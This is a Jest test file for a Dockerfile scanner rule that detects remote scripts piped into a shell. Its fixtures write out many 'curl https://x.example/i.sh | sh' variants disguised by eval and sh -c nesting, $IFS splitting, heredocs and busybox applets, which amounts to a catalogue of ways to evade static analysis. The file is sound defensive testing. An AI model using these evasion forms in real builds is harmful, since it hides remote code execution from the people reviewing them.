import { afterEach, describe, expect, test } from '@jest/globals';
import { rmSync } from 'node:fs';
import { parseDockerfile } from '../../src/formats/dockerfile/parse.js';
import { runScripts } from '../../src/formats/dockerfile/shell/walk.js';
import { scanFiles } from '../helpers/rules.js';

const roots: string[] = [];
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

const HEAD = `FROM debian:12.5@sha256:${'a'.repeat(64)}\nUSER app\n`;
const DL = 'curl https://x.example/i.sh | sh';

/** [ruleId, severity, line, column] of every finding of a Dockerfile `HEAD + body`. */
async function findings(body: string): Promise<[string, string, number, number][]> {
  const res = await scanFiles({ Dockerfile: `${HEAD}${body}\n` });
  roots.push(res.root);
  return res.findings.map((f) => [f.ruleId, f.severity, f.startLine, f.startColumn]);
}

/** The message of the one shell-analysis-incomplete finding. */
async function incomplete(body: string): Promise<string | undefined> {
  const res = await scanFiles({ Dockerfile: `${HEAD}${body}\n` });
  roots.push(res.root);
  return res.findings.find((f) => f.ruleId === 'dockerfile/shell-analysis-incomplete')?.message;
}

const sq = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
const dq = (s: string) => `"${s.replace(/[\\"$`]/g, (c) => `\\${c}`)}"`;
function nest(n: number, wrap: (s: string) => string): string {
  let s = DL;
  for (let i = 0; i < n; i++) s = wrap(s);
  return s;
}

/**
 * Issue 9, item 2: each of these hid a critical `curl | sh` with no finding at all. Each is now
 * found, or, past a limit, a blocking shell-analysis-incomplete at the RUN says which limit.
 */
describe('the shell analysis has no silent caps (issue 9, item 2)', () => {
  test('60,000 words before the download in one RUN: found (and the parser-size limit said)', async () => {
    const pad = 'w '.repeat(60_000);
    const col = 4 + 'echo '.length + pad.length + '&& '.length + 1;
    expect(await findings(`RUN echo ${pad}&& ${DL}`)).toEqual([
      ['dockerfile/shell-analysis-incomplete', 'high', 3, 1],
      ['dockerfile/remote-script-exec', 'critical', 3, col],
    ]);
  });

  test('past the tokenizer word cap: a blocking finding naming the cap and where', async () => {
    const pad = 'w '.repeat(250_000);
    const res = await scanFiles({ Dockerfile: `${HEAD}RUN echo ${pad}&& ${DL}\n` });
    roots.push(res.root);
    expect(res.findings.map((f) => [f.ruleId, f.severity, f.startLine, f.startColumn, f.message])).toEqual([
      [
        'dockerfile/shell-analysis-incomplete',
        'high',
        3,
        1,
        'The shell analysis of this RUN stopped at a limit: a script of more than 64,000 characters, more than the shell parser reads (line 3, column 4): it was read word by word, without looking into $(...), <(...) or heredocs; more than 200,000 words (line 3, column 400008): the words after it were not read. A download run there (`curl ... | sh`) could pass unseen.',
      ],
    ]);
  });

  test.each([
    ['sh -c', (s: string) => `sh -c ${sq(s)}`],
    ['bash -c', (s: string) => `bash -c ${dq(s)}`],
    ['eval (single quotes)', (s: string) => `eval ${sq(s)}`],
    ['eval (double quotes)', (s: string) => `eval ${dq(s)}`],
  ])('%s nested five and eight deep: found', async (_name, wrap) => {
    for (const n of [5, 8]) {
      const body = `RUN ${nest(n, wrap)}`;
      const f = await findings(body);
      expect(f.map(([id, sev, line]) => [id, sev, line])).toEqual([
        ['dockerfile/remote-script-exec', 'critical', 3],
      ]);
    }
  });

  test('eval joins its words: `eval curl URL "|" sh`', async () => {
    expect(await findings(`RUN eval curl https://x.example/i.sh "|" sh`)).toEqual([
      ['dockerfile/remote-script-exec', 'critical', 3, 10],
    ]);
  });

  test('nested past the depth limit: a blocking finding at the RUN, naming the limit', async () => {
    // Quoting grows fourfold per level, so the deep case nests bare evals: `eval eval ... true`.
    const body = `RUN ${'eval '.repeat(17)}true`;
    expect(await findings(body)).toEqual([['dockerfile/shell-analysis-incomplete', 'high', 3, 1]]);
    expect(await incomplete(body)).toBe(
      'The shell analysis of this RUN stopped at a limit: `sh -c`, `eval` or heredoc scripts nested more than 16 deep (line 3, column 90): the script nested there was not checked. A download run there (`curl ... | sh`) could pass unseen.',
    );
    // Heredocs count too: 17 `sh <<EOF` levels.
    let hd = DL;
    for (let i = 16; i >= 0; i--) hd = `sh <<'E${i}'\n${hd}\nE${i}`;
    expect(await findings(`RUN ${hd}`)).toEqual([['dockerfile/shell-analysis-incomplete', 'high', 3, 1]]);
  });

  test.each([
    ['${IFS}', 'RUN curl${IFS}-fsSL${IFS}https://x.example/i.sh|sh', 5],
    ['$IFS', 'RUN curl$IFS-fsSL$IFS"https://x.example/i.sh"|sh', 5],
    ['$IFS as the only separator', 'RUN x=1;curl$IFS-fsSL$IFS"https://x.example/i.sh"|sh', 9],
    ['a variable holding the command', 'ARG C="curl -fsSL"\nRUN $C https://x.example/i.sh | sh', 5],
  ])('an unquoted %s splits words like a blank', async (_name, body, col) => {
    const line = body.startsWith('ARG') ? 4 : 3;
    expect(await findings(body)).toEqual([['dockerfile/remote-script-exec', 'critical', line, col]]);
  });

  test('the tokenizer (scripts too large for the parser) splits on $IFS too', async () => {
    const pad = 'w '.repeat(33_000);
    const col = 4 + 'echo '.length + pad.length + '; '.length + 1;
    expect(await findings(`RUN echo ${pad}; curl\${IFS}-fsSL\${IFS}https://x.example/i.sh|sh`)).toEqual([
      ['dockerfile/shell-analysis-incomplete', 'high', 3, 1],
      ['dockerfile/remote-script-exec', 'critical', 3, col],
    ]);
  });

  test('split words keep exact positions; quoted and IFS-less expansions are not split', () => {
    const model = parseDockerfile(
      'FROM x\nARG P="curl git"\nRUN apt-get install ${P} "$P" a${IFS}b\nRUN IFS=\'\' ; echo a${IFS}b\n',
      'Dockerfile',
    );
    const [a, b] = runScripts(model).map((r) => r.script.commands);
    expect(a![0]!.args.map((w) => [w.value, w.raw, w.column, w.endColumn, w.split ?? false])).toEqual([
      ['install', 'install', 13, 20, false],
      ['curl', '${P}', 21, 25, true],
      ['git', '${P}', 21, 25, true],
      ['curl git', '"$P"', 26, 30, false],
      ['a', 'a', 31, 32, false],
      ['b', 'b', 38, 39, false],
    ]);
    expect(b!.find((c) => c.name === 'echo')!.args.map((w) => w.value)).toEqual(['ab']);
  });

  test.each([
    ['. /dev/stdin <<EOF', `RUN . /dev/stdin <<EOF\n${DL}\nEOF`],
    ['source /dev/stdin <<EOF', `RUN source /dev/stdin <<EOF\n${DL}\nEOF`],
    ['sh <<EOF', `RUN sh <<EOF\n${DL}\nEOF`],
    ['bash -s <<EOF', `RUN bash -s <<EOF\n${DL}\nEOF`],
    ['sh /dev/stdin <<EOF', `RUN sh /dev/stdin <<EOF\n${DL}\nEOF`],
    ['bash /proc/self/fd/0 <<EOF', `RUN bash /proc/self/fd/0 <<EOF\n${DL}\nEOF`],
  ])('%s runs the heredoc body: the download in it is found', async (_name, body) => {
    expect(await findings(body)).toEqual([['dockerfile/remote-script-exec', 'critical', 4, 1]]);
  });

  test.each([
    ['curl ... | . /dev/stdin', 'RUN curl https://x.example/i.sh | . /dev/stdin'],
    ['curl ... | sh /dev/stdin', 'RUN curl https://x.example/i.sh | sh /dev/stdin'],
  ])('a pipe into %s is found', async (_name, body) => {
    expect(await findings(body)).toEqual([['dockerfile/remote-script-exec', 'critical', 3, 5]]);
  });

  test.each([
    ['busybox wget ... | busybox sh', 'RUN busybox wget -O- https://x.example/i.sh | busybox sh', 13],
    ['busybox wget ... | sh', 'RUN busybox wget -O- https://x.example/i.sh | sh', 13],
    ['busybox sh -c', `RUN busybox sh -c ${sq(DL)}`, 20],
    ['toybox wget ... | toybox sh', 'RUN toybox wget -O- https://x.example/i.sh | toybox sh', 12],
    [
      '/bin/busybox wget ... | busybox ash',
      'RUN /bin/busybox wget -qO- https://x.example/i.sh | busybox ash',
      18,
    ],
  ])('busybox and toybox applets: %s', async (_name, body, col) => {
    expect(await findings(body)).toEqual([['dockerfile/remote-script-exec', 'critical', 3, col]]);
  });

  test('busybox as the binary itself is not an applet wrapper', () => {
    const model = parseDockerfile('FROM x\nRUN busybox --install -s && busybox\n', 'Dockerfile');
    expect(runScripts(model)[0]!.script.commands.map((c) => [c.base, c.wrappers])).toEqual([
      ['busybox', []],
      ['busybox', []],
    ]);
  });
});
